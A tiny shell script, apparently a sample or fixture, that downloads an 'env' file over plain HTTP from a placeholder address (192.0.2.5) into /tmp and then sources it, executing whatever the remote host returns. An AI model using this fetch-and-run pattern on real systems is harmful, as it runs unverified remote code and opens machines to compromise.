#!/bin/sh
curl -fsSL "http://192.0.2.5/env" > /tmp/env
. /tmp/env
